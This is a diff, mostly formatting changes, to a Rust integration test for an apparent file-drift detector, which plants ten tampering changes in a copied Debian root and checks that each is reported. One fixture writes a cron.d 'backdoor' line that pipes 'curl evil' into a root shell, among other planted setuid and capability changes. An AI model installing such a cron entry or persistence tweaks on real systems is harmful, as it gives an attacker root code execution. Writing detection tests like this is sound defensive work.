@@ -5,11 +5,13 @@
 
 use std::fs::{self, File, FileTimes};
 use std::os::unix::ffi::OsStrExt;
-use std::os::unix::fs::{symlink, PermissionsExt};
+use std::os::unix::fs::{PermissionsExt, symlink};
 use std::path::Path;
 use std::time::{Duration, Instant};
 
-use driftwatch_tests::{baseline_create, check_json, debian, finding, findings, require_root, Keys};
+use driftwatch_tests::{
+    Keys, baseline_create, check_json, debian, finding, findings, require_root,
+};
 
 /// Waits until files written at `since` are older than the scan cache's racy window, so the
 /// cache may trust them.
@@ -54,14 +56,30 @@ fn real_debian_root_drifts_are_reported_exactly() {
     // The untouched root is clean: without a cache, with an empty cache, with a warm cache.
     settle(copied_at);
     let r = check_json(root, &bl, &keys, None, &[]);
-    assert_eq!(r.code, 0, "untouched root not clean:\n{}\n{}", r.stdout_str(), r.stderr);
+    assert_eq!(
+        r.code,
+        0,
+        "untouched root not clean:\n{}\n{}",
+        r.stdout_str(),
+        r.stderr
+    );
     for round in 0..2 {
         let r = check_json(root, &bl, &keys, Some(&state), &[]);
-        assert_eq!(r.code, 0, "untouched root not clean with cache (round {round}):\n{}", r.stdout_str());
+        assert_eq!(
+            r.code,
+            0,
+            "untouched root not clean with cache (round {round}):\n{}",
+            r.stdout_str()
+        );
         let hits = r.json()["summary"]["scan"]["cache_hits"].as_u64().unwrap();
         if round == 1 {
-            let hashed = r.json()["summary"]["scan"]["files_hashed"].as_u64().unwrap();
-            assert!(hits > 1000 && hashed == 0, "warm cache not used: {hits} hits, {hashed} hashed");
+            let hashed = r.json()["summary"]["scan"]["files_hashed"]
+                .as_u64()
+                .unwrap();
+            assert!(
+                hits > 1000 && hashed == 0,
+                "warm cache not used: {hits} hits, {hashed} hashed"
+            );
         }
     }
 
@@ -76,15 +94,26 @@ fn real_debian_root_drifts_are_reported_exactly() {
         .write(true)
         .open(&issue)
         .unwrap()
-        .set_times(FileTimes::new().set_modified(before.modified().unwrap()).set_accessed(before.accessed().unwrap()))
+        .set_times(
+            FileTimes::new()
+                .set_modified(before.modified().unwrap())
+                .set_accessed(before.accessed().unwrap()),
+        )
         .unwrap();
-    assert_eq!(fs::metadata(&issue).unwrap().modified().unwrap(), before.modified().unwrap());
+    assert_eq!(
+        fs::metadata(&issue).unwrap().modified().unwrap(),
+        before.modified().unwrap()
+    );
     // 2. setuid added.
     fs::set_permissions(root.join("usr/bin/env"), fs::Permissions::from_mode(0o4755)).unwrap();
     // 3. Owner changed.
     std::os::unix::fs::chown(root.join("usr/bin/ls"), Some(1000), Some(1000)).unwrap();
     // 4. New file under /etc/cron.d.
-    fs::write(root.join("etc/cron.d/backdoor"), "* * * * * root curl evil | sh\n").unwrap();
+    fs::write(
+        root.join("etc/cron.d/backdoor"),
+        "* * * * * root curl evil | sh\n",
+    )
+    .unwrap();
     // 5. A binary deleted.
     fs::remove_file(root.join("usr/bin/yes")).unwrap();
     // 6. A symlink retargeted.
@@ -93,15 +122,29 @@ fn real_debian_root_drifts_are_reported_exactly() {
     fs::remove_file(&osr).unwrap();
     symlink("/tmp/fake-os-release", &osr).unwrap();
     // 7. A capability xattr added (cap_net_raw+ep, VFS_CAP_REVISION_2).
-    let cap: [u8; 20] = [1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
+    let cap: [u8; 20] = [
+        1, 0, 0, 2, 0, 0x20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
+    ];
     xattr::set(root.join("usr/bin/cat"), "security.capability", &cap).unwrap();
     // 8. A directory made world-writable.
-    fs::set_permissions(root.join("usr/local/bin"), fs::Permissions::from_mode(0o777)).unwrap();
+    fs::set_permissions(
+        root.join("usr/local/bin"),
+        fs::Permissions::from_mode(0o777),
+    )
+    .unwrap();
     // 9. A file with a non-UTF-8 name.
     let weird = b"/usr/local/bin/\xff\xfe-not-utf8";
-    fs::write(root.join(std::ffi::OsStr::from_bytes(&weird[1..])), b"#!/bin/sh\n").unwrap();
+    fs::write(
+        root.join(std::ffi::OsStr::from_bytes(&weird[1..])),
+        b"#!/bin/sh\n",
+    )
+    .unwrap();
     // 10. A FIFO.
-    nix::unistd::mkfifo(&root.join("etc/evil.fifo"), nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
+    nix::unistd::mkfifo(
+        &root.join("etc/evil.fifo"),
+        nix::sys::stat::Mode::from_bits_truncate(0o644),
+    )
+    .unwrap();
 
     let mut expected = vec![
         finding(b"/etc/issue", "modified", &["content"]),
@@ -157,8 +200,17 @@ fn real_debian_root_drifts_are_reported_exactly() {
     ]);
     assert_eq!(r.code, 1);
     let text = r.stdout_str();
-    assert!(text.contains("/usr/local/bin/\\xff\\xfe-not-utf8"), "{text}");
-    assert!(text.contains("mode: 0755 (rwxr-xr-x) -> 4755 (rwsr-xr-x)"), "{text}");
-    assert!(text.contains("target: ../usr/lib/os-release -> /tmp/fake-os-release"), "{text}");
+    assert!(
+        text.contains("/usr/local/bin/\\xff\\xfe-not-utf8"),
+        "{text}"
+    );
+    assert!(
+        text.contains("mode: 0755 (rwxr-xr-x) -> 4755 (rwsr-xr-x)"),
+        "{text}"
+    );
+    assert!(
+        text.contains("target: ../usr/lib/os-release -> /tmp/fake-os-release"),
+        "{text}"
+    );
     assert!(text.contains("DRIFT: 10 violation(s)"), "{text}");
 }
